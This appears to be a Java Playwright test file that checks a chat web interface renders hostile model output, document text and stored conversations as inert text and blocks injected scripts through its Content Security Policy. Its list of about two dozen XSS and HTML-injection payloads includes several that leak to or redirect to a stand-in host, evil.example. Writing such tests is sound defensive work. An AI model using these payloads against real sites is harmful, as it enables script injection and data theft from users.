package dev.millrace.serving.http;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Documents, titles, addresses and models that try to run something in the reader's browser. */
@QuarkusTest
class HostilePageTest extends ChatPageBase {

  private static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)><use href=\"data:image/svg+xml,<svg id=x></svg>#x\"/></svg>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<a href=\"javascript:alert(1)\">click me</a>",
          "[click me](javascript:alert(1))",
          "[click me](JaVaScRiPt&#58;alert(1))",
          "[click me](data:text/html,<script>alert(1)</script>)",
          "[click me](vbscript:alert(1))",
          "![pixel](https://evil.example/leak.png?q=secret)",
          "![x](x\" onerror=\"alert(1))",
          "<details open ontoggle=alert(1)>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<form action=https://evil.example><input name=a></form>",
          "<base href=https://evil.example/>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
              + " onerror=alert(1)&gt;\">",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "`<img src=x onerror=alert(1)>`",
          "```\n</code></pre><script>alert(1)</script>\n```",
          "<a id=marked name=DOMPurify>clobber</a>",
          "\uE0000\uE001 [1] <b onmouseover=alert(1)>bold</b>",
          "{{constructor.constructor('alert(1)')()}}",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">");

  @Test
  void what_a_model_writes_stays_text() {
    choose(ScriptedBackend.ID);
    page.locator("#documents").uncheck();
    String all = String.join("\n\n", ATTACKS);
    model.thinks(all, "Before. " + all + "\n\nAfter.");
    Locator answer = answered(all);
    inert(answer);
    inert(page.locator(".message.user"));
    answer.locator("summary", new Locator.LocatorOptions().setHasText("Thoughts")).click();
    assertThat(answer.locator(".thoughts")).containsText("<script>alert(1)</script>");
    everyLinkIsOfTheWeb();
  }

  /** Each by itself: what is open in one must not hide the next. */
  @Test
  void each_attack_alone_stays_text() {
    for (boolean plain : new boolean[] {false, true}) {
      page.evaluate(
          """
          async ([attacks, plain]) => {
            const { render } = await import('/chat/markdown.js');
            const place = document.createElement('div');
            place.className = 'content attacked';
            for (const attack of attacks) {
              const one = document.createElement('section');
              one.append(render(`Before. ${attack}\n\n${attack} [1]`,
                  [{ number: 1, from: 0, to: 3, title: attack }], plain, () => {}));
              place.append(one);
            }
            document.getElementById('talk').append(place);
          }
          """,
          List.of(ATTACKS, plain));
      assertThat(page.locator(".attacked section")).hasCount(ATTACKS.size());
      inert(page.locator(".attacked"));
      everyLinkIsOfTheWeb();
      page.evaluate("document.querySelector('.attacked').remove()");
    }
  }

  @Test
  void what_a_document_holds_stays_text() {
    int part = ATTACKS.size() / 3;
    for (int i = 0; i < 3; i++) {
      String attacks = String.join(" ", ATTACKS.subList(i * part, (i + 1) * part));
      String id = "evil" + i + "/<img src=x onerror=alert(1)>?&#";
      String text =
          "The flumgubbin number " + i + " is described here. " + attacks + " That is all.";
      index.put(id, 30L + i, "Title " + attacks, "javascript:alert(1)", text);
      Locator answer = answered("What is the flumgubbin number " + i + "?");
      assertThat(answer.locator(".content")).containsText("flumgubbin");
      inert(answer);
      answer.locator("button.chip").first().click();
      assertThat(page.locator("#source mark")).containsText("flumgubbin");
      assertThat(page.locator("#source-original")).isHidden();
      inert(page.locator("#source-text"));
      inert(page.locator("#source header"));
      page.keyboard().press("Escape");
    }
  }

  @Test
  void what_the_browser_keeps_is_not_trusted() {
    answered("What does acks=all mean?");
    for (String kept :
        List.of(
            "not JSON",
            "{}",
            "[null, 1, {\"id\": \"x\"}]",
            "[{\"id\":\"a\",\"title\":\"<img src=x onerror=alert(1)>\",\"changed\":1,\"messages\":"
                + "[{\"role\":\"user\",\"content\":\"<img src=x onerror=alert(1)>\"},"
                + "{\"role\":\"assistant\",\"content\":\"<img src=x onerror=alert(1)>\","
                + "\"model\":\"<b>\"}]}]")) {
      page.evaluate("kept => localStorage.setItem('millrace.conversations', kept)", kept);
      page.reload();
      assertThat(page.locator("#model option")).hasCount(2);
      inert(page.locator(".app"));
    }
  }

  @Test
  void scripts_inside_the_page_are_refused_by_its_policy() {
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
            + " document.body.append(s); }");
    assertThat(page.evaluate("window.ran")).isNull();
    assertThat(complaints()).anyMatch(c -> c.contains("Content Security Policy"));
    complaints().clear();
  }

  /** Nothing is there that could run, load, or take the reader somewhere. */
  private void inert(Locator place) {
    Object found =
        place.evaluate(
            """
            root => [root, ...root.querySelectorAll('*')].flatMap(e => {
              const bad = [];
              const tags = ['script', 'img', 'iframe', 'object', 'embed', 'style', 'form', 'base',
                            'meta', 'link', 'math', 'video', 'audio', 'noscript'];
              if (tags.includes(e.localName) && !e.closest('form.compose')) bad.push(e.localName);
              for (const a of e.attributes) {
                if (a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc') {
                  if (e.id !== 'question') bad.push(e.localName + ' ' + a.name);
                }
              }
              return bad;
            })
            """);
    assertThat((List<?>) found).isEmpty();
  }

  private void everyLinkIsOfTheWeb() {
    Object links =
        page.evaluate(
            "[...document.querySelectorAll('.content a')].map(a => a.getAttribute('href') ?? '')");
    for (Object link : (List<?>) links) {
      assertThat(link.toString()).matches("(https?:.*|mailto:.*|#.*|)");
    }
  }
}
